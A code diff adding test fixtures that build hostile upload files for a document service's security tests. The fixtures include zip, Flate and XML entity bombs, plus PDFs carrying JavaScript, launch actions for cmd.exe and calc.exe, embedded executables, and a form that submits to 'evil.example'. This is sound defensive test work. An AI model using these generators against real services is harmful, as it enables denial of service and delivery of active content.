@@ -1,9 +1,12 @@
-"""Bad upload files (name, bytes, why) and a seeded PDF mutator, for tests and benchmarks."""
+"""Bad upload files (name, bytes, why), hostile ones with what must happen to them, and a seeded
+PDF mutator, for tests and benchmarks. Bombs are written in chunks: generating the corpus costs
+the test process a few MB, so its memory can be measured around the uploads."""
 
 import io
 import random
 import struct
 import zipfile
+import zlib
 
 from tests.security.world import tiny_pdf
 
@@ -107,7 +110,7 @@ def bad_files():
         b"</Types>",
         b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
     )
-    bomb = make_zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"0" * 80_000_000})
+    bomb = streamed_docx(b"0" * 1_000_000, 80)
     return [
         ("disguised-html.pdf", html, "HTML named .pdf"),
         ("disguised-html.docx", html, "HTML named .docx"),
@@ -179,3 +182,462 @@ def mutated_pdfs(seed, count, base=None):
     base = base or tiny_pdf("Fuzz base", pages=2)
     for index in range(count):
         yield index, mutate(base, rng)
+
+
+# ---- Hostile files: each must be refused (with the message given) or cleaned at upload
+
+
+def streamed_docx(chunk, repeats, *, extra=None, document_prefix=b"", document_suffix=b""):
+    """A .docx whose document.xml is `chunk` written `repeats` times, without holding it whole."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
+        package.writestr("[Content_Types].xml", CONTENT_TYPES)
+        with package.open("word/document.xml", "w", force_zip64=True) as part:
+            part.write(document_prefix)
+            for _ in range(repeats):
+                part.write(chunk)
+            part.write(document_suffix)
+        for name, data in (extra or {}).items():
+            package.writestr(name, data)
+    return out.getvalue()
+
+
+DOCUMENT_START = DOCUMENT.split(b"<w:p>")[0]
+DOCUMENT_END = b"</w:body></w:document>"
+PARAGRAPH = b"<w:p><w:r><w:t>Community safety partnership report paragraph.</w:t></w:r></w:p>"
+
+
+def word_bomb(megabytes):
+    """A few hundred KB that unpack to `megabytes` MB of real paragraphs (the issue's case)."""
+    chunk = PARAGRAPH * (1_000_000 // len(PARAGRAPH))
+    return streamed_docx(
+        chunk, megabytes, document_prefix=DOCUMENT_START, document_suffix=DOCUMENT_END
+    )
+
+
+def big_image_docx(megabytes):
+    """A small document with one "image" part of `megabytes` MB of zeros."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
+        package.writestr("[Content_Types].xml", CONTENT_TYPES)
+        package.writestr("word/document.xml", DOCUMENT)
+        with package.open("word/media/image1.png", "w", force_zip64=True) as part:
+            for _ in range(megabytes):
+                part.write(bytes(1_000_000))
+    return out.getvalue()
+
+
+def lying_size_docx():
+    """A .docx whose central directory says document.xml is 100 bytes; it inflates to 20 MB."""
+    data = streamed_docx(
+        PARAGRAPH * 1000, 250, document_prefix=DOCUMENT_START, document_suffix=DOCUMENT_END
+    )
+    return declare_unpacked_size(data, 100)
+
+
+def many_parts_docx(count):
+    return docx({f"word/part{index}.xml": b"<x/>" for index in range(count)})
+
+
+def billion_laughs_docx():
+    entities = b'<!ENTITY a0 "lol">' + b"".join(
+        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
+    )
+    document = (
+        b'<?xml version="1.0"?><!DOCTYPE w:document ['
+        + entities
+        + b"]>"
+        + DOCUMENT_START.split(b"?>", 1)[1]
+        + b"<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>"
+        + DOCUMENT_END
+    )
+    return make_zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": document})
+
+
+def deep_docx(depth):
+    """Tables nested `depth` deep: the converter and the sanitiser must not recurse to death."""
+    cell = b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p><w:r><w:t>Deep</w:t></w:r></w:p>"
+    document = DOCUMENT_START + cell + b"</w:tc></w:tr></w:tbl>" * depth + DOCUMENT_END
+    return make_zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": document})
+
+
+def script_docx():
+    """Hyperlinks to javascript: and raw HTML-looking text: converted, then sanitised."""
+    rels = (
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+        b'officeDocument/2006/relationships/hyperlink" Target="javascript:alert(1)" '
+        b'TargetMode="External"/></Relationships>'
+    )
+    body = (
+        b'<w:p><w:hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships" r:id="rId1"><w:r><w:t>Click</w:t></w:r></w:hyperlink></w:p>'
+        b"<w:p><w:r><w:t>&lt;script&gt;alert(2)&lt;/script&gt;</w:t></w:r></w:p>"
+    )
+    document = DOCUMENT_START + body + DOCUMENT_END
+    return make_zip(
+        {
+            "[Content_Types].xml": CONTENT_TYPES,
+            "word/document.xml": document,
+            "word/_rels/document.xml.rels": rels,
+        }
+    )
+
+
+def _pdf(build):
+    """A one-page PDF (tiny_pdf) changed by `build(pdf)`, saved without recompressing."""
+    import pikepdf
+
+    pdf = pikepdf.open(io.BytesIO(tiny_pdf("Hostile")))
+    build(pdf)
+    out = io.BytesIO()
+    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
+    return out.getvalue()
+
+
+def _deflated(total, chunk=1_000_000):
+    """`total` bytes of zeros as one zlib stream (`total` a multiple of `chunk`), made quickly:
+    after a full flush the compressor starts afresh, so every chunk compresses to the same bytes
+    and is compressed once; the end is an empty final block and the Adler-32 of all the zeros."""
+    compressor = zlib.compressobj(9)
+    zeros = bytes(chunk)
+    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
+    repeated = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
+    checksum = 1
+    for _ in range(total // chunk):
+        checksum = zlib.adler32(zeros, checksum)
+    return first + repeated * (total // chunk - 1) + b"\x03\x00" + struct.pack(">I", checksum)
+
+
+def stream_bomb_pdf(megabytes, filters=("/FlateDecode",)):
+    import base64
+
+    import pikepdf
+
+    raw = _deflated(megabytes * 1_000_000)
+    if filters[0] == "/ASCII85Decode":
+        raw = base64.a85encode(raw) + b"~>"
+
+    def build(pdf):
+        stream = pikepdf.Stream(pdf, b"")
+        names = [pikepdf.Name(f) for f in filters]
+        stream.write(raw, filter=names[0] if len(names) == 1 else pikepdf.Array(names))
+        pdf.pages[0].Resources.XObject = pikepdf.Dictionary(Blob=stream)
+        stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
+        stream.BBox = pikepdf.Array([0, 0, 1, 1])
+
+    return _pdf(build)
+
+
+def many_streams_pdf(count, megabytes):
+    """`count` streams of `megabytes` MB each: no one is a bomb, together they are."""
+    import pikepdf
+
+    raw = _deflated(megabytes * 1_000_000)
+
+    def build(pdf):
+        blobs = pikepdf.Dictionary()
+        for index in range(count):
+            stream = pikepdf.Stream(pdf, b"")
+            stream.write(raw, filter=pikepdf.Name.FlateDecode)
+            stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
+            stream.BBox = pikepdf.Array([0, 0, 1, 1])
+            blobs[f"/B{index}"] = stream
+        pdf.pages[0].Resources.XObject = blobs
+
+    return _pdf(build)
+
+
+def run_length_bomb_pdf(megabytes):
+    import pikepdf
+
+    raw = b"\x81\x00" * (megabytes * 1_000_000 // 128) + b"\x80"  # 128 zeros per 2 bytes
+
+    def build(pdf):
+        stream = pikepdf.Stream(pdf, b"")
+        stream.write(raw, filter=pikepdf.Name.RunLengthDecode)
+        pdf.Root.Blob = stream
+
+    return _pdf(build)
+
+
+def many_pages_pdf(pages, declared=None):
+    """`pages` pages sharing one content stream (20,000 pages in about 200 KB)."""
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(595, 842))
+    first = pdf.pages[0]
+    first.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 760 Td (Page) Tj ET")
+    kids = [first.obj]
+    for _ in range(pages - 1):
+        kids.append(
+            pdf.make_indirect(
+                pikepdf.Dictionary(
+                    Type=pikepdf.Name.Page,
+                    Parent=pdf.Root.Pages,
+                    MediaBox=first.MediaBox,
+                    Contents=first.Contents,
+                )
+            )
+        )
+    pdf.Root.Pages.Kids = pikepdf.Array(kids)
+    pdf.Root.Pages.Count = declared if declared is not None else pages
+    out = io.BytesIO()
+    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return out.getvalue()
+
+
+def _action(**entries):
+    import pikepdf
+
+    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **entries)
+
+
+def _js(code="app.alert('x')"):
+    import pikepdf
+
+    return _action(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))
+
+
+def _link(pdf, action):
+    import pikepdf
+
+    annotation = pdf.make_indirect(
+        pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Link,
+            Rect=pikepdf.Array([72, 700, 200, 720]),
+            A=action,
+        )
+    )
+    pdf.pages[0].Annots = pikepdf.Array([annotation])
+
+
+def _embedded_spec(pdf):
+    import pikepdf
+
+    payload = pdf.make_stream(b"MZ pretend executable")
+    payload.Type = pikepdf.Name.EmbeddedFile
+    return pikepdf.Dictionary(
+        Type=pikepdf.Name.Filespec, F=pikepdf.String("run.exe"), EF=pikepdf.Dictionary(F=payload)
+    )
+
+
+def active_pdfs():
+    """(name, PDF, why, what the co-ordinator must be told was removed)."""
+    import pikepdf
+
+    N = pikepdf.Name
+
+    def document_js(pdf):
+        tree = pikepdf.Dictionary(
+            Names=pikepdf.Array([pikepdf.String("x"), pdf.make_indirect(_js())])
+        )
+        pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)
+
+    def open_js(pdf):
+        pdf.Root.OpenAction = _js()
+
+    def open_launch(pdf):
+        pdf.Root.OpenAction = _action(S=N.Launch, F=pikepdf.String("calc.exe"))
+
+    def embedded(pdf):
+        tree = pikepdf.Dictionary(
+            Names=pikepdf.Array([pikepdf.String("run.exe"), _embedded_spec(pdf)])
+        )
+        pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=tree)
+
+    def attachment_annotation(pdf):
+        pdf.pages[0].Annots = pikepdf.Array(
+            [
+                pdf.make_indirect(
+                    pikepdf.Dictionary(
+                        Type=N.Annot,
+                        Subtype=N.FileAttachment,
+                        Rect=pikepdf.Array([0, 0, 10, 10]),
+                        FS=_embedded_spec(pdf),
+                    )
+                )
+            ]
+        )
+
+    def page_aa(pdf):
+        pdf.pages[0].AA = pikepdf.Dictionary(O=_js())
+
+    def link_js(pdf):
+        _link(pdf, _js())
+
+    def link_uri_js(pdf):
+        _link(pdf, _action(S=N.URI, URI=pikepdf.String("javascript:alert(1)")))
+
+    def link_launch(pdf):
+        _link(pdf, _action(S=N.Launch, Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"))))
+
+    def link_next_js(pdf):
+        _link(pdf, _action(S=N.URI, URI=pikepdf.String("https://example.org/"), Next=_js()))
+
+    def goto_remote(pdf):
+        _link(
+            pdf,
+            _action(
+                S=N.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf"), D=pikepdf.Array([0, N.Fit])
+            ),
+        )
+
+    def submit_form(pdf):
+        _link(pdf, _action(S=N.SubmitForm, F=pikepdf.String("https://evil.example/collect")))
+
+    def xfa(pdf):
+        pdf.Root.AcroForm = pikepdf.Dictionary(
+            Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp><script>x()</script></xdp:xdp>")
+        )
+
+    def rich_media(pdf):
+        pdf.pages[0].Annots = pikepdf.Array(
+            [
+                pikepdf.Dictionary(
+                    Type=N.Annot, Subtype=N.RichMedia, Rect=pikepdf.Array([0, 0, 9, 9])
+                )
+            ]
+        )
+
+    def outline_js(pdf):
+        item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Open me"), A=_js()))
+        outlines = pdf.make_indirect(
+            pikepdf.Dictionary(Type=N.Outlines, First=item, Last=item, Count=1)
+        )
+        item.Parent = outlines
+        pdf.Root.Outlines = outlines
+
+    def everything(pdf):
+        for build in (document_js, open_launch, page_aa, link_js, xfa):
+            build(pdf)
+
+    cases = [
+        ("document-js.pdf", document_js, "document-level JavaScript", {"JavaScript"}),
+        (
+            "open-js.pdf",
+            open_js,
+            "JavaScript run on opening",
+            {"JavaScript", "an action run when the file is opened"},
+        ),
+        (
+            "open-launch.pdf",
+            open_launch,
+            "launch action on opening",
+            {"actions that launch programs"},
+        ),
+        ("embedded.pdf", embedded, "embedded executable", {"embedded files"}),
+        ("attached.pdf", attachment_annotation, "file attachment annotation", {"embedded files"}),
+        (
+            "page-aa.pdf",
+            page_aa,
+            "JavaScript when a page opens (AA)",
+            {"actions run automatically (on opening a page or a field)"},
+        ),
+        ("link-js.pdf", link_js, "link running JavaScript", {"JavaScript"}),
+        ("link-uri-js.pdf", link_uri_js, "javascript: link", {"JavaScript"}),
+        (
+            "link-launch.pdf",
+            link_launch,
+            "link launching cmd.exe",
+            {"actions that launch programs"},
+        ),
+        ("link-next.pdf", link_next_js, "harmless link chaining JavaScript", {"JavaScript"}),
+        (
+            "goto-remote.pdf",
+            goto_remote,
+            "link opening a remote file",
+            {"links that open other files"},
+        ),
+        (
+            "submit.pdf",
+            submit_form,
+            "form submission to another site",
+            {"form actions that read or send data"},
+        ),
+        ("xfa.pdf", xfa, "XFA form with script", {"XFA forms"}),
+        ("rich-media.pdf", rich_media, "RichMedia (Flash) annotation", {"multimedia"}),
+        ("outline-js.pdf", outline_js, "bookmark running JavaScript", {"JavaScript"}),
+        (
+            "everything.pdf",
+            everything,
+            "all of the above at once",
+            {"JavaScript", "actions that launch programs", "XFA forms"},
+        ),
+    ]
+    return [(name, _pdf(build), why, removed) for name, build, why, removed in cases]
+
+
+def hostile_files():
+    """(name, content, why, expected): `expected` is the message a refusal must show, or the set
+    of things the co-ordinator must be told were removed from a file that is cleaned. With
+    bad_files() (all refused) this makes the corpus of at least 50."""
+    unpacks = "unpacks to more than"
+    damaged = "is damaged and cannot be read"
+    refused = [
+        (
+            "word-bomb.docx",
+            word_bomb(55),
+            "197 KB-style .docx: 55 MB of paragraphs",
+            "text and layout unpack",
+        ),
+        (
+            "word-bomb-small.docx",
+            word_bomb(12),
+            ".docx: 12 MB of paragraphs",
+            "text and layout unpack",
+        ),
+        ("image-bomb.docx", big_image_docx(70), ".docx with a 70 MB part of zeros", unpacks),
+        (
+            "lying-size.docx",
+            lying_size_docx(),
+            ".docx whose part is 200,000 times its declared size",
+            damaged,
+        ),
+        ("many-parts.docx", many_parts_docx(2_500), ".docx with 2,500 parts", "too many parts"),
+        ("laughs.docx", billion_laughs_docx(), "billion laughs entities in document.xml", damaged),
+        (
+            "not-xml.docx",
+            make_zip(
+                {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document><w:body"}
+            ),
+            "malformed document.xml",
+            damaged,
+        ),
+        ("truncated.docx", docx()[: len(docx()) // 2], "truncated .docx", damaged),
+        ("really-word.pdf", docx(), "real .docx named .pdf", "Only PDF files and Word documents"),
+        ("really-pdf.docx", tiny_pdf(), "real PDF named .docx", "name does not end in .pdf"),
+        ("stream-bomb.pdf", stream_bomb_pdf(1000), "1 MB PDF holding a 1 GB stream", unpacks),
+        (
+            "a85-bomb.pdf",
+            stream_bomb_pdf(200, ("/ASCII85Decode", "/FlateDecode")),
+            "ASCII85 + Flate bomb",
+            unpacks,
+        ),
+        ("run-length-bomb.pdf", run_length_bomb_pdf(100), "RunLength stream of 100 MB", unpacks),
+        ("many-streams.pdf", many_streams_pdf(80, 1), "80 streams of 1 MB each", unpacks),
+        (
+            "20000-pages.pdf",
+            many_pages_pdf(20_000),
+            "20,000 pages in a small file",
+            "pages; the limit is",
+        ),
+        (
+            "lying-count.pdf",
+            many_pages_pdf(1_500, declared=1),
+            "1,500 pages declaring 1",
+            "pages; the limit is",
+        ),
+        ("deep.docx", deep_docx(200), "tables nested 200 deep", damaged),
+    ]
+    active = active_pdfs()
+    cleaned = [
+        *active,
+        # qpdf rebuilds what it can of the first 400 bytes: the JavaScript is in them.
+        ("truncated-js.pdf", active[0][1][:400], "truncated PDF with JavaScript", {"JavaScript"}),
+        # Word files are cleaned by the sanitiser: nothing to report, nothing live stored.
+        ("script.docx", script_docx(), "javascript: link and script-looking text", set()),
+    ]
+    return refused + cleaned
